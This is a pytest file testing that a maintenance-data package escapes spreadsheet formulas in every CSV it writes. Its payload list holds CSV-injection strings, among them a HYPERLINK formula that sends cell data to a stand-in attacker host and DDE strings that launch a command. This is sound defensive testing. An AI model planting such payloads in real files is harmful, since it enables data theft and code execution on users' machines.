"""CSV injection: every CSV the pipeline writes escapes text a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import re
from pathlib import Path

import pandas as pd
import pytest

from cmms_pm.csv_export import escape_cell, write_csv

PROJECT_DIR = Path(__file__).resolve().parents[3]
#: What an attacker puts in a column name or a category of their data file.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_like_text_is_prefixed_with_a_quote(payload):
    assert escape_cell(payload) == "'" + payload


def test_plain_text_numbers_and_missing_values_are_left_alone():
    assert [escape_cell(v) for v in ("pump", "a=b", "Torque [Nm]", "", -1.5, 3, None)] == [
        "pump", "a=b", "Torque [Nm]", "", -1.5, 3, None,
    ]  # fmt: skip


def test_a_written_csv_escapes_column_names_and_text_cells_but_keeps_numbers(tmp_path):
    frame = pd.DataFrame(
        {
            "feature": PAYLOADS,
            "psi": [-0.5, 0.1, 0.2, 0.3, 0.4, 0.5],
            "kind": pd.Categorical(["=1+1", "numeric", "@x", "numeric", "-y", "+z"]),
            "=evil()": ["ok", None, "-1", "fine", "=2", "x"],
        }
    )
    path = write_csv(frame, tmp_path / "out.csv")
    with path.open(newline="") as handle:
        header, *rows = list(csv.reader(handle))
    assert len(rows) == len(frame)  # a carriage return in a cell starts no row of its own
    assert header == ["feature", "psi", "kind", "'=evil()"]
    for row in rows:
        for cell in (row[0], row[2], row[3]):
            # No cell a spreadsheet would evaluate: escaped, or not formula-like at all.
            assert cell == "" or not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
    assert [row[0] for row in rows] == ["'" + p for p in PAYLOADS]
    assert [float(row[1]) for row in rows] == [-0.5, 0.1, 0.2, 0.3, 0.4, 0.5]  # numbers stay numbers
    assert list(frame.columns)[3] == "=evil()"  # the caller's frame is not changed


def test_every_csv_the_package_writes_goes_through_the_helper():
    """One helper, every writer: no other ``to_csv`` / ``csv.writer`` in the shipped code."""
    writers = re.compile(r"\.to_csv\(|csv\.writer\(|csv\.DictWriter\(")
    offenders = [
        f"{path.relative_to(PROJECT_DIR)}:{number}"
        for folder in ("include", "plugins", "dags")
        for path in sorted((PROJECT_DIR / folder).rglob("*.py"))
        if path.name != "csv_export.py"
        for number, line in enumerate(path.read_text().splitlines(), 1)
        if writers.search(line)
    ]
    assert offenders == [], f"write CSV with cmms_pm.csv_export.write_csv: {offenders}"
